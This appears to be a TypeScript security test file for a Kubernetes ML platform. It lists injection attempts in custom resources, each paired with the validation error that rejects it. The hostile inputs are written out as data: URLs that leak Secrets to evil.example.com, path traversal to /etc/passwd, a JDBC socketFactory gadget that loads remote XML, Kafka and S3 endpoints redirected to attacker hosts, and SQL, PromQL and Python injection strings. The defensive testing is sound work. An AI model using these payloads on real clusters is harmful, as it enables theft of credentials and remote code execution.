import type { Identity, KubernetesObject } from '../../types';
import { type Attack, DORA, MALIK, notAccepted, refused, VISION } from '../attack';

type Json = Readonly<Record<string, unknown>>;

function object(kind: string, spec: Json, version = 'nstarx.io/v1alpha1'): KubernetesObject {
  return { apiVersion: version, kind, metadata: { name: 'texts', namespace: VISION }, spec };
}

function model(location: string, more: Json = {}): KubernetesObject {
  const resources = { requests: { cpu: '1', memory: '1Gi' }, limits: { memory: '1Gi' } };
  return object('AIModel', { type: 'onnx', version: '1.0', storage: { location }, serving: { resources }, ...more });
}

function abTest(more: Json): KubernetesObject {
  return object('ABTest', {
    variants: [
      { name: 'a', modelRef: { name: 'churn', version: '1' }, weight: 50, control: true },
      { name: 'b', modelRef: { name: 'churn', version: '2' }, weight: 50 },
    ],
    metric: { name: 'caught_total', goal: 'maximize' },
    ...more,
  });
}

const SECRET = { secretRef: { name: 'orders-db' } };
const LAKE = { type: 'datalake', config: { path: 's3://lake/orders/' } };

function pipeline(source: Json, more: Json = {}): KubernetesObject {
  return object('DataPipeline', { schedule: '0 2 * * *', source, sink: LAKE, ...more });
}

const database = (driver: string, options: Json): KubernetesObject =>
  pipeline({ type: 'database', config: { driver, connection: SECRET, table: 'orders', options } });
const topic = (config: Json): Json => ({ type: 'kafka', config: { topic: 'orders', connection: SECRET, ...config } });
const stream = (options: Json, more: Json = {}): KubernetesObject =>
  object('DataPipeline', {
    engine: 'flink',
    source: topic({ options: { schema: 'id BIGINT', ...options } }),
    sink: LAKE,
    ...more,
  });

function store(more: Json): KubernetesObject {
  return object('FeatureStore', {
    features: [{ name: 'f', type: 'float', source: { type: 'batch', query: 'SELECT 1' } }],
    serving: { offline: { path: 's3://lake/features/' } },
    ...more,
  });
}

const GRAMMAR = 'grammar of the schema';
const OPTIONS = 'the operator: a list of the options that a spec may give';
const BAD_OPTION = /config\.options must have options that a spec may give for/;
const BAD_URL = /must be a URL without credentials/;

type Row = readonly [request: string, gain: string, defence: string, object: KubernetesObject, message: RegExp];

/** What the API server refuses of an ML engineer, who may write all kinds. */
const REFUSED: readonly Row[] = [
  [
    'an ABTest with a guardrail whose name is a query',
    "figures of fraud's models in the status",
    GRAMMAR,
    abTest({ guardrails: [{ name: 'sum(inference_requests_total{namespace="fraud"}) or up', max: 1 }] }),
    /must be the name of a metric/,
  ],
  [
    'an ABTest with a guardrail that ends its selector with a comment',
    "figures of fraud's models in the status",
    GRAMMAR,
    abTest({ guardrails: [{ name: 'up) or max(secret_metric #', max: 1 }] }),
    /must be the name of a metric/,
  ],
  [
    'an ABTest whose metric has a selector',
    'figures of all tenants in recorded series',
    GRAMMAR,
    abTest({ metric: { name: 'caught_total{namespace="fraud"}', goal: 'maximize' } }),
    /must be the name of a metric/,
  ],
  [
    'an ABTest whose cookie sets another domain',
    'cookies for the hosts of others',
    GRAMMAR,
    abTest({ stickiness: { type: 'cookie', name: 'a=b; Domain=example.com; c' } }),
    /must be the name of a header or cookie/,
  ],
  [
    'an AIModel that is scaled by a query',
    'replicas that tell of the load of others',
    GRAMMAR,
    model('s3://models/a', {
      serving: {
        resources: { requests: { cpu: '1', memory: '1Gi' }, limits: { memory: '1Gi' } },
        autoscaling: { maxReplicas: 3, metrics: [{ type: 'custom', name: 'up) or max(a', targetValue: '1' }] },
      },
    }),
    /must be the name of a metric/,
  ],
  [
    'an AIModel whose location has a variable of the container',
    "the store's key, in a request to the attacker's server",
    GRAMMAR,
    model('https://evil.example.com/$(AWS_SECRET_ACCESS_KEY)'),
    BAD_URL,
  ],
  [
    'an AIModel at $(password) of its Secret',
    "the password, in a request to the attacker's server",
    GRAMMAR,
    model('https://$(password).evil.example.com/a'),
    BAD_URL,
  ],
  [
    'an AIModel in a claim, two folders above it',
    'the files of the node around the volume',
    GRAMMAR,
    model('pvc://claim/../../x'),
    /must stay in its folder/,
  ],
  ['an AIModel in a claim without a name', 'any path as one of a volume', GRAMMAR, model('pvc:///etc'), BAD_URL],
  ['an AIModel in a file of the node', 'files of the image or the node', GRAMMAR, model('file:///etc/passwd'), BAD_URL],
  [
    'an AIModel whose location has credentials',
    'a key in a spec, which all who see the namespace can read',
    GRAMMAR,
    model('s3://key:secret@models/a'),
    BAD_URL,
  ],
  [
    'an AIModel in an image whose tag may change',
    'a model that nobody approved, after the approval of another',
    'policy pinned-images',
    model('oci://registry.example.com/churn:latest'),
    /give each image a tag other than latest/,
  ],
  [
    'an AIModel in an image without a tag',
    'a model that nobody approved, after the approval of another',
    'policy pinned-images',
    model('oci://registry.example.com/churn'),
    /give each image a tag other than latest/,
  ],
  [
    'an AIModel with an endpoint that ends a path',
    'a route that matches what its author does not own',
    GRAMMAR,
    model('s3://models/a', { endpoints: [{ name: 'a', path: '/v1"; return 200' }] }),
    /must be a path/,
  ],
  [
    'a DataPipeline with an option whose name ends the statement',
    'a table of Flink with other options: another broker for the password',
    GRAMMAR,
    stream({ "x' = 'y', 'properties.bootstrap.servers": 'evil:9092' }),
    /must have names of options/,
  ],
  [
    'a DataPipeline that sends the user of a Secret to other brokers',
    'the password of the Secret, which its author may not read',
    'rule of the schema',
    pipeline(topic({ bootstrapServers: 'evil.example.com:9092' })),
    /must not send the user of a connection to other brokers/,
  ],
  [
    'a DataPipeline that reports its lineage for another namespace',
    "false lineage for fraud's data",
    'the namespace of the lineage is that of the object',
    pipeline({ type: 'datalake', config: { path: 's3://lake/raw/' } }, { lineage: { namespace: 'fraud' } }),
    /unknown field "spec\.lineage\.namespace"/,
  ],
  [
    'a DataPipeline that joins a folder outside the lookup',
    'tables of others in the lake',
    GRAMMAR,
    pipeline(LAKE, {
      transformations: [{ type: 'enrich', config: { lookupTable: '../../fraud/cards', joinKey: 'id' } }],
    }),
    /must be the name of a table/,
  ],
  [
    'a DataPipeline whose table is a query',
    'more of the database than the table',
    GRAMMAR,
    pipeline({ type: 'database', config: { driver: 'postgresql', connection: SECRET, table: '(SELECT 1) a' } }),
    /must be the name of a table/,
  ],
  [
    'a DataPipeline with a column that ends a statement',
    'another statement in the job',
    GRAMMAR,
    pipeline(LAKE, { transformations: [{ type: 'aggregate', config: { aggregates: { 'a`, b AS `c': '1' } } }] }),
    /must have names of columns/,
  ],
  [
    'a DataPipeline of an API with a password in its URL',
    'a key in a spec, which all who see the namespace can read',
    GRAMMAR,
    pipeline({ type: 'api', config: { url: 'https://user:password@api.example.com/a' } }),
    BAD_URL,
  ],
  [
    'a FeatureStore whose folder is a file of the pod',
    'files of the image as features',
    GRAMMAR,
    store({ serving: { offline: { path: 'file:///var/run/secrets/' } } }),
    BAD_URL,
  ],
  [
    'a FeatureStore with an entity that is code',
    'Python in the definitions of the store',
    GRAMMAR,
    store({ entities: [{ name: 'a"); import os; ("' }] }),
    /must be an identifier/,
  ],
  [
    'a FeatureStore with a topic that is an option',
    'another topic than the one that is seen',
    GRAMMAR,
    store({ features: [{ name: 'f', type: 'float', source: { type: 'streaming', topic: "a', 'b' = 'c" } }] }),
    /must be the name of a topic/,
  ],
  [
    'an MLWorkflow of a repository with a token',
    'a key in a spec, which all who see the namespace can read',
    GRAMMAR,
    object('MLWorkflow', {
      type: 'training',
      trigger: { type: 'git', repository: 'https://token@example.com/a.git' },
      stages: [{ name: 'a', type: 'python-job', config: { script: 'pass' } }],
    }),
    /must be the URL of a repository without credentials/,
  ],
];

/** What is stored, and why its operator does nothing. */
const NOT_ACCEPTED: readonly Row[] = [
  [
    'a DataPipeline with a url for its JDBC driver',
    'the password of the Secret, which its author may not read',
    OPTIONS,
    database('postgresql', { URL: 'jdbc:postgresql://evil.example.com/a' }),
    BAD_OPTION,
  ],
  [
    'a DataPipeline with a class for the sockets of the driver',
    'any class of the image, with an argument',
    OPTIONS,
    database('postgresql', {
      socketFactory: 'org.springframework.context.support.ClassPathXmlApplicationContext',
      socketFactoryArg: 'http://evil.example.com/a.xml',
    }),
    BAD_OPTION,
  ],
  [
    'a DataPipeline that lets MySQL read files of the pod',
    "the token of the pod, in the attacker's database",
    OPTIONS,
    database('mysql', { allowLoadLocalInfile: 'true' }),
    BAD_OPTION,
  ],
  [
    'a DataPipeline with another endpoint for its bucket',
    "requests signed with the platform's keys, at the attacker's server",
    OPTIONS,
    pipeline({
      type: 'datalake',
      config: { path: 's3://lake/raw/', options: { 'fs.s3a.endpoint': 'evil.example.com' } },
    }),
    BAD_OPTION,
  ],
  [
    'a DataPipeline with brokers among the options, beside a connection',
    'the password of the Secret, which its author may not read',
    OPTIONS,
    pipeline(topic({ options: { 'kafka.bootstrap.servers': 'evil.example.com:9092' } })),
    BAD_OPTION,
  ],
  [
    'a DataPipeline with a login of its own for Kafka',
    'any class that Java can log in with',
    OPTIONS,
    pipeline(
      topic({ options: { 'kafka.sasl.jaas.config': 'com.sun.security.auth.module.JndiLoginModule required;' } }),
    ),
    BAD_OPTION,
  ],
  [
    'a stream with columns that end the table and begin another',
    "the password of the Secret, at the attacker's brokers",
    'the operator: columns and nothing else',
    stream({ schema: "id BIGINT) WITH ('connector' = 'kafka', 'properties.bootstrap.servers' = 'evil:9092') --" }),
    /source\.config\.options\.schema must be columns and nothing else/,
  ],
  [
    'a stream whose query selects the password',
    'the password of the Secret, as a column',
    'the operator: no key of a Secret in texts of the spec',
    stream(
      {},
      { transformations: [{ type: 'sql', config: { query: "SELECT '{{source.password}}' AS p FROM input" } }] },
    ),
    /transformations\[0\]\.config\.query must have no '\{\{'/,
  ],
];

const by = (who: string, user: Identity, rows: readonly Row[], how: typeof refused): Attack[] =>
  rows.map(([request, gain, defence, given, message]) => ({
    who,
    request,
    gain,
    defence,
    attempt: how(given, user, message),
  }));

/** Attacks by texts: names, locations and options that a query, a template, a URL or a program would read as more than that. */
export const TEXTS: readonly Attack[] = [
  ...by('ML engineer of vision', MALIK, REFUSED, refused),
  ...by('data scientist of vision', DORA, NOT_ACCEPTED, notAccepted),
];
